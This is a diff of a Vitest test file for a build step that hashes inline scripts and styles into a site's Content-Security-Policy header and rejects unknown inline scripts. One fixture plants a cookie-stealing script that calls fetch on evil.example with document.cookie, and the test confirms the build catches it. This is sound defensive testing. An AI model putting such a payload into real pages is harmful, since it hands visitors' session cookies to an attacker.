@@ -3,24 +3,24 @@ import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { completeBuiltCsp, extendCspInHeaders, inlineHashes } from './csp.ts';
+import { completeBuiltCsp, extendCspInHeaders, inlineCode } from './csp.ts';
 import { parseCsp } from './host-rules.ts';
 
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
 
 describe('inline code the policy must allow', () => {
-  it('hashes inline classic and module scripts and styles, byte for byte', () => {
+  it('finds inline classic and module scripts and styles, byte for byte', () => {
     const html = `<head><script>(function(){ window.x = 1 })();</script><style>astro-island{display:contents}</style>
       <script type="module">import('/a.js')</script></head>`;
-    expect(inlineHashes(html)).toEqual({
-      scripts: [sha('(function(){ window.x = 1 })();'), sha("import('/a.js')")],
-      styles: [sha('astro-island{display:contents}')],
+    expect(inlineCode(html)).toEqual({
+      scripts: ['(function(){ window.x = 1 })();', "import('/a.js')"],
+      styles: ['astro-island{display:contents}'],
     });
   });
 
   it('skips external scripts and data blocks such as JSON-LD, which never run', () => {
     const html = `<script type="module" src="/_astro/x.js"></script><script type="application/ld+json">{"a":1}</script>`;
-    expect(inlineHashes(html).scripts).toEqual([]);
+    expect(inlineCode(html).scripts).toEqual([]);
   });
 });
 
@@ -46,16 +46,46 @@ describe('completing a built policy', () => {
     expect(() => extendCspInHeaders(headers, { 'script-src': [], 'worker-src': [] } as never)).toThrow('worker-src');
   });
 
-  it('collects the inline code of every page of a build into its _headers', () => {
+  function build(pages: Record<string, string>, headersText = headers): string {
     const dir = mkdtempSync(join(tmpdir(), 'csp-'));
-    writeFileSync(join(dir, '_headers'), headers);
-    writeFileSync(join(dir, 'index.html'), '<script>one()</script>');
-    mkdirSync(join(dir, 'news'));
-    writeFileSync(join(dir, 'news', 'index.html'), '<script>two()</script><style>p{}</style>');
-    completeBuiltCsp(dir, { connect: ['http://127.0.0.1:54321'] });
-    const csp = parseCsp(/Content-Security-Policy: (.*)/.exec(readFileSync(join(dir, '_headers'), 'utf8'))?.[1] ?? '');
+    writeFileSync(join(dir, '_headers'), headersText);
+    for (const [path, html] of Object.entries(pages)) {
+      mkdirSync(join(dir, path, '..'), { recursive: true });
+      writeFileSync(join(dir, path), html);
+    }
+    return dir;
+  }
+  const policyOf = (dir: string) =>
+    parseCsp(/Content-Security-Policy: (.*)/.exec(readFileSync(join(dir, '_headers'), 'utf8'))?.[1] ?? '');
+
+  it("hashes the app's own inline scripts that the pages use, and every page's inline styles", () => {
+    const dir = build({
+      'index.html': '<script>one()</script>',
+      'news/index.html': '<script>two()</script><style>p{}</style>',
+    });
+    completeBuiltCsp(dir, { connect: ['http://127.0.0.1:54321'], knownScripts: ['one()', 'two()', 'unused()'] });
+    const csp = policyOf(dir);
     expect(csp.get('script-src')?.sort()).toEqual(["'self'", sha('one()'), sha('two()')].sort());
     expect(csp.get('style-src')).toEqual(["'self'", sha('p{}')]);
     expect(csp.get('connect-src')).toEqual(["'self'", 'http://127.0.0.1:54321']);
+  });
+
+  it('an inline script no component emits (e.g. injected through content) fails the build, naming the page', () => {
+    const dir = build({
+      'index.html': '<script>one()</script>',
+      'news/injected/index.html': `<script>one()</script><p>Story</p><script>fetch('https://evil.example/?c='+document.cookie)</script>`,
+    });
+    expect(() => completeBuiltCsp(dir, { connect: [], knownScripts: ['one()'] })).toThrow(
+      /news\/injected\/index\.html: "fetch\('https:\/\/evil\.example/,
+    );
+    expect(readFileSync(join(dir, '_headers'), 'utf8')).toBe(headers);
+  });
+
+  it('a policy line longer than the host accepts fails the build', () => {
+    const scripts = Array.from({ length: 50 }, (_, i) => `script${i}()`);
+    const dir = build({ 'index.html': scripts.map((script) => `<script>${script}</script>`).join('') });
+    expect(() => completeBuiltCsp(dir, { connect: [], knownScripts: scripts })).toThrow(
+      /line 2 \(Content-Security-Policy\) is \d{4} characters; the host allows 2000/,
+    );
   });
 });
